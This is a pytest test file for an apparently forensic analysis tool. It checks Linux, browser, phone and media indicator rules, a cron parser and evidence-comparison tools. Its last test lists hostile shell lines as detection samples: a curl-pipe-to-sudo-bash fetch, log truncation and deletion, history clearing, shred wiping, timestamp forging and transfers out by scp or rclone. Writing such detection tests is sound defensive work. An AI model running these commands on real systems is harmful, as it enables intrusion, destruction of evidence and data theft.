"""Indicator rules beside the Windows ones: what they see in a generated case, what they leave alone, and their tools."""

from __future__ import annotations

import importlib.resources
from pathlib import Path
from typing import Any

import pytest
import yaml

from wigmore.api.cases import open_case
from wigmore.api.demo import make, score
from wigmore.api.run import Options, run
from wigmore.evidence.local import LocalFile
from wigmore.investigation.phases import conclusions
from wigmore.investigation.workbench import Workbench
from wigmore.model.nouns import NEUTRAL
from wigmore.model.protocols import Gap, Record, Recorder
from wigmore.records.compiler import Compiler
from wigmore.records.rules import Indicator, load_indicators
from wigmore.records.sheet import load_questions
from wigmore.records.store import connect
from wigmore.registry import HEAD, parsers, tools
from wigmore.tools.context import ToolOutput

RULES = Path(str(importlib.resources.files("wigmore") / "rules"))
OURS = (
    *("linux", "web_server", "browser", "phones", "media", "filesystem", "network", "identity"),
    *("paper_and_disc", "concealing", "content", "accounts_and_phones"),
)
WINDOWS_ONLY = ("suspicious_execution", "remote_access_tool")


def our_rules() -> list[dict[str, Any]]:
    return [
        r for name in OURS for r in yaml.safe_load((RULES / "indicators" / f"{name}.yaml").read_text(encoding="utf-8"))
    ]


@pytest.fixture(scope="module")
def innocent(tmp_path_factory: pytest.TempPathFactory) -> Path:
    _, case = make(tmp_path_factory.mktemp("innocent") / "demo", variant="innocent", seed=5)
    assert run(case, Options(jobs=2)).exit_code in (0, 3)
    return case


def edges_of(bench: Workbench, rule: str) -> set[tuple[str, str]]:
    return {
        (bench.state.hypotheses[e.hypothesis_id].template, e.edge_type)
        for e in bench.state.edges.values()
        if bench.state.phenomena[e.phenomenon_id].rule == rule and e.edge_type != NEUTRAL
    }


def test_every_rule_names_artifacts_that_some_parser_makes() -> None:
    from fnmatch import fnmatchcase

    known = {a for p in parsers().values() for a in p.artifacts}
    known |= {"file_listing", "volume", "container", "encrypted_volume", "shadow_copy", "partition"}
    missing = [(r["id"], a) for r in our_rules() for a in r["artifacts"] if not any(fnmatchcase(k, a) for k in known)]
    assert not missing


def test_titles_name_only_fields_that_stand_in_facts_or_groups() -> None:
    import re

    for rule in our_rules():
        named = set(re.findall(r"\{([^{}]+)\}", rule["title"])) - {"count", "first", "last"}
        grounded = {str(f).strip('"') for f in (*rule["facts"], *rule.get("group_by", ()))} | {"host"}
        assert named <= grounded, (rule["id"], named - grounded)


def test_a_subject_is_a_fact_so_that_the_hypothesis_role_finds_it() -> None:
    for rule in our_rules():
        if rule.get("subject"):
            assert rule["subject"] in rule["facts"], rule["id"]


def test_wording_stays_neutral() -> None:
    import re

    loud = re.compile(r"\b(proves?|proof|clearly|obviously|undoubtedly|guilty|criminal|suspect|stole)\b", re.IGNORECASE)
    for rule in our_rules():
        for part in ("title", "interpretation", "caveat"):
            assert not loud.search(rule[part]), (rule["id"], part)


def test_the_standard_questions_are_unique_and_answered_by_known_artifacts() -> None:
    from fnmatch import fnmatchcase

    questions = load_questions([RULES])
    assert len(questions) >= 60
    known = {a for p in parsers().values() for a in p.artifacts}
    known |= {"file_listing", "volume", "container", "encrypted_volume", "shadow_copy", "partition"}
    for question in questions.values():
        for artifact in (a for place in question.places for a in place.artifacts):
            assert any(fnmatchcase(k, artifact) for k in known), (question.id, artifact)


def test_planted_truths_beside_windows_bear_on_their_hypotheses_and_decoys_do_not(investigated: Path) -> None:
    from wigmore.generator import read_truth

    truth = read_truth(investigated / "sample" / "truth.json")
    with open_case(investigated / "case") as bench:
        scored = score(bench, truth)
    wanted = {p.id for p in truth.planted if p.source not in ("src-laptop", "src-stick", "src-disc")}
    late = {
        "ios.contact",
        "android.contact",
        "ios.whatsapp.message",
    }  # only probes cite these: rounds may run out before
    late_ids = {p.id for p in truth.planted if p.artifact in late}
    missed = {m.split(" ", 1)[0] for m in scored["missed"]} & (wanted - late_ids)
    assert not missed, [m for m in scored["missed"] if m.split(" ", 1)[0] in missed]
    ours = {d.id for d in truth.decoys if d.source not in ("src-laptop",)}
    assert not {a.split(" ", 1)[0] for a in scored["asserted"]} & ours


def test_nothing_is_refused_by_the_gateway(investigated: Path) -> None:
    ours = {r["id"] for r in our_rules()}
    with open_case(investigated / "case") as bench:
        refused = [e.body["reason"] for e in bench.ledger.events("rejection") if e.body["proposal"].get("rule") in ours]
    assert refused == []


def test_password_guessing_with_success_is_direct_and_without_only_a_prerequisite(
    investigated: Path, innocent: Path
) -> None:
    with open_case(investigated / "case") as bench:
        assert edges_of(bench, "linux.failures_then_logon") == {("brute_force", "direct_evidence")}
    with open_case(innocent) as bench:
        assert edges_of(bench, "linux.failures_then_logon") == set()
        assert bench.state.phenomena and any(p.rule == "linux.ssh_failures" for p in bench.state.phenomena.values())


def test_the_innocent_case_concludes_nothing_of_ours(innocent: Path) -> None:
    with open_case(innocent) as bench:
        concluded = [c for c in conclusions(bench) if c["verdict"] == "concluded"]
        names = {bench.state.hypotheses[c["hypothesis_id"]].template for c in concluded}
    assert names <= set(WINDOWS_ONLY)


def test_a_synchronised_visit_carries_no_edge(investigated: Path) -> None:
    with open_case(investigated / "case") as bench:
        assert edges_of(bench, "browser.imported_rows") == set()
        synced = {r["record_id"] for r in bench.store.records(["browser.*.visit"], None, "origin = 'synced'")}
        assert synced
        for edge in bench.state.edges.values():
            cited = {f.citation.record_id for f in bench.state.phenomena[edge.phenomenon_id].verified_facts}
            assert not cited & synced


def test_contact_entries_make_entities_and_bear_on_identity_alone(investigated: Path) -> None:
    with open_case(investigated / "case") as bench:
        assert {template for template, _ in edges_of(bench, "contact.entries")} == {"same_person"}
        kinds = {i.type for e in bench.state.entities.values() for i in e.identifiers}
        assert {"phone", "email", "imei"} <= kinds


def test_a_camera_clock_against_the_satellites_takes_the_position_out(investigated: Path) -> None:
    with open_case(investigated / "case") as bench:
        by_rule = {p.rule: p for p in bench.state.phenomena.values()}
        wrong = {f.path for f in by_rule["media.camera_clock_wrong"].verified_facts if f.path}
        right = {f.path for f in by_rule["media.position_with_satellite_time"].verified_facts if f.path}
        assert wrong and right and not wrong & right


def call(bench: Workbench, tool: str, source: str, **args: Any) -> ToolOutput:
    context = bench.runner.context(source, "filesystem")
    output = tools()[tool].function(context, **args)
    assert isinstance(output, ToolOutput)
    return output


def test_same_content_names_the_twin_beside_an_untouched_record(investigated: Path) -> None:
    with open_case(investigated / "case") as bench:
        found = call(bench, "same_content", "src-stick", removable=True)
        assert found.outcome == "found"
        row = next(r for r in found.rows if r["data"]["name"].endswith(".step"))
        assert [t["source_id"] for t in row["twins"]] == ["src-laptop"]
        stored = next(iter(bench.store.records(["file_listing"], "src-stick", "record_id = ?", [row["record_id"]])))
        assert row["data"] == stored["data"]
        assert call(bench, "same_content", "src-stick", sha256="0" * 64).outcome == "empty"
        assert call(bench, "same_content", "src-laptop", removable=True).outcome == "not_applicable"
        assert call(bench, "same_content", "").outcome == "failed"


def test_files_that_came_onto_a_medium_are_told_from_those_that_were_there(investigated: Path) -> None:
    with open_case(investigated / "case") as bench:
        came = call(bench, "new_files", "src-stick")
        assert came.outcome == "found" and all("/p1/" in r["path"] for r in came.rows)
        stored = bench.store.records(["file_listing"], "src-stick", "path LIKE '%/p1/%'")
        assert len(came.rows) < sum(r["data"]["kind"] == "file" for r in stored)
        assert call(bench, "new_files", "src-laptop").outcome == "not_applicable"


def test_messages_of_one_side_are_no_exchange(investigated: Path) -> None:
    from wigmore.generator import read_truth

    truth = read_truth(investigated / "sample" / "truth.json")
    rival = next(p.values[0] for p in truth.planted if p.artifact == "ios.sms" and p.values[0].startswith("+"))
    with open_case(investigated / "case") as bench:
        every, both = (call(bench, "other_side", "src-iphone", subject=rival, exchanged=e) for e in (False, True))
        ways = {r["data"]["direction"] for r in every.rows}
        assert (both.rows == every.rows) if len(ways) == 2 else both.outcome == "empty"


def test_the_other_side_is_found_or_said_not_to_be_there(investigated: Path) -> None:
    from wigmore.generator import read_truth

    truth = read_truth(investigated / "sample" / "truth.json")
    rival = next(p.values[0] for p in truth.planted if p.artifact == "ios.sms" and p.values[0].startswith("+"))
    with open_case(investigated / "case") as bench:
        found = call(bench, "other_side", "src-iphone", subject=rival)
        assert found.outcome == "found"
        assert {t["source_id"] for r in found.rows for t in r["twins"]} == {"src-android"}
        assert call(bench, "other_side", "src-iphone", subject="+12025550000").outcome == "not_applicable"
        assert call(bench, "other_side", "src-server", subject=rival).outcome in ("empty", "not_applicable")


def test_deleted_files_are_listed_and_counted_by_what_can_be_recovered(investigated: Path) -> None:
    with open_case(investigated / "case") as bench:
        intact = call(bench, "deleted_files", "src-stick", recovery="intact")
        assert intact.outcome == "found" and all(r["data"]["recovery"] == "intact" for r in intact.rows)
        counted = call(bench, "count_deleted_files", "src-stick")
        assert sum(r["entries"] for r in counted.rows if r["kind"] == "file") >= len(intact.rows)
        hashes = call(bench, "file_hashes", "src-stick", path=intact.rows[0]["path"])
        assert len(hashes.rows) == 1 and len(hashes.rows[0]["data"]["sha256"]) == 64


def parsed(tmp_path: Path, text: str, path: str) -> tuple[list[dict[str, Any]], list[Gap]]:
    file = tmp_path / "table"
    file.write_bytes(text.encode())
    evidence = LocalFile.at(file, path=path)
    chosen = parsers()["linux.cron"]
    with evidence.open() as stream:
        assert chosen.claims(stream.read(HEAD), path, evidence.size), path
    rows, gaps = [], []
    for item in chosen.function(evidence):
        if isinstance(item, Gap):
            gaps.append(item)
        elif not isinstance(item, Recorder):
            record: Record = item[1]
            assert record.artifact == "linux.crontab"
            rows.append(record.data)
    return rows, gaps


def test_system_cron_tables_name_user_and_command(tmp_path: Path) -> None:
    text = '# jobs\nSHELL=/bin/sh\nMAILTO=""\n*/5 * * * 1-5 www-data /usr/bin/php -f /srv/x.php\n@reboot root /sbin/go 100%in\n'
    rows, gaps = parsed(tmp_path, text, "etc/cron.d/job")
    entries = [r for r in rows if r["kind"] == "entry"]
    assert [(e["schedule"], e["user"], e["command"]) for e in entries] == [
        ("*/5 * * * 1-5", "www-data", "/usr/bin/php -f /srv/x.php"),
        ("@reboot", "root", "/sbin/go 100"),
    ]
    assert entries[0]["day_of_week"] == "1-5" and entries[0]["environment"] == {"SHELL": "/bin/sh", "MAILTO": '""'}
    assert entries[1]["standard_input"] == "in" and not gaps


def test_an_accounts_cron_table_takes_its_user_from_the_file(tmp_path: Path) -> None:
    rows, _ = parsed(tmp_path, "0 3 * * * root-backup --all\n", "var/spool/cron/crontabs/anna")
    assert rows[0]["user"] == "anna" and rows[0]["command"] == "root-backup --all"


def test_anacron_and_damaged_lines_are_kept(tmp_path: Path) -> None:
    rows, gaps = parsed(tmp_path, "1\t5\tcron.daily\trun-parts /etc/cron.daily\nbroken\n", "etc/anacrontab")
    assert rows[0]["job"] == "cron.daily" and rows[0]["delay_minutes"] == 5
    assert rows[1] == {"text": "broken", "follows_format": False} and gaps[0].reason == "schema_unknown"


@pytest.mark.parametrize("text", ["1 2 3 4 5 6 7\n8 9 1 2 3 4 5\n", "name=value\n", "hello world\n", ""])
def test_tables_and_texts_are_no_cron_tables(text: str) -> None:
    assert not parsers()["linux.cron"].claims(text.encode(), "home/anna/notes.txt", len(text))


def compiled(test: dict[str, Any], fields: dict[str, str], parameters: dict[str, Any] | None = None) -> bool:
    """Whether a record with these fields passes a test."""
    compiler = Compiler(parameters=parameters)
    sql = compiler.condition([test])
    return answer(sql, compiler.fields, fields)


def answer(condition: str, names: list[str], values: dict[str, str]) -> bool:
    """Whether a record with these values, as columns f1, f2…, satisfies a compiled condition."""
    columns = ", ".join(f"?::VARCHAR AS f{number}" for number in range(1, len(names) + 1)) or "1"
    query = f"SELECT coalesce({condition}, false) FROM (SELECT {columns})"
    row = connect(threads=1).execute(query, [values.get(name) for name in names]).fetchone()
    return bool(row and row[0])


def test_numbers_are_compared_without_separators_and_prefix() -> None:
    test = {"field": "number", "phone": "$subject"}
    for written in (
        "+44 20 7946 0958",
        "020 7946 0958",
        "442079460958@s.whatsapp.net",
        '["Mobile: +44 (20) 7946-0958"]',
    ):
        assert compiled(test, {"number": written}, {"subject": "+442079460958"}), written
    assert not compiled(test, {"number": "+442079460000"}, {"subject": "+442079460958"})
    assert compiled(test, {"number": "anything"})  # nobody is asked about
    assert compiled(test, {"number": "A@example.org"}, {"subject": "a@example.org"})
    assert not compiled(test, {"number": "b@example.org"}, {"subject": "a@example.org"})


def test_times_further_apart_than_any_zone_are_told() -> None:
    test = {"field": "taken", "apart": ["fixed", 54000]}
    assert compiled(test, {"taken": "2025-04-21T16:41:22", "fixed": "2025-05-12T16:41:22Z"})
    assert not compiled(test, {"taken": "2025-04-22T18:41:22", "fixed": "2025-04-22T16:41:22Z"})
    assert not compiled(test, {"taken": "2025-04-22T18:41:22"})


@pytest.mark.parametrize(
    ("rule", "command", "hit"),
    [
        ("linux.log_truncated", "sudo truncate -s 0 /var/log/auth.log", True),
        ("linux.log_truncated", "> /var/log/syslog", True),
        ("linux.log_truncated", "rm -rf /var/log/nginx/access.log", True),
        ("linux.log_truncated", "tail -f /var/log/syslog", False),
        ("linux.log_truncated", "grep error /var/log/syslog > /home/a/out.txt", False),
        ("linux.log_truncated", "sudo logrotate -f /etc/logrotate.d/rsyslog", False),
        ("linux.touch_command", "touch -t 202001010000 /srv/a", True),
        ("linux.touch_command", "touch -r /etc/passwd /srv/a", True),
        ("linux.touch_command", "touch notes.txt", False),
        ("linux.touch_command", "touch my-draft-r", False),
        ("linux.fetch_and_run", "curl -s http://192.0.2.1/a | sudo bash", True),
        ("linux.fetch_and_run", "curl -o a.zip http://example.org/a.zip", False),
        ("linux.account_command", "sudo useradd -m -s /bin/bash x", True),
        ("linux.account_command", "usermod -aG sudo x", True),
        ("linux.account_command", "man useradd", False),
        ("linux.wipe_command", "shred -u plan.txt", True),
        ("linux.wipe_command", "ls shredder", False),
        ("linux.history_cleared", "history -c", True),
        ("linux.history_cleared", "history 20", False),
        ("linux.transfer_command", "scp a.zip user@192.0.2.1:/tmp/", True),
        ("linux.transfer_command", "rclone copy /srv box:drop", True),
        ("linux.transfer_command", "scp user@192.0.2.1:/tmp/a.zip .", False),
    ],
)
def test_shell_lines_are_told_apart(rule: str, command: str, hit: bool) -> None:
    chosen: Indicator = load_indicators([RULES])[rule]
    compiler = Compiler()
    sql = compiler.condition(chosen.where)
    values = {"command": command, "shell": "bash"}
    assert answer(sql, compiler.fields, values) is hit
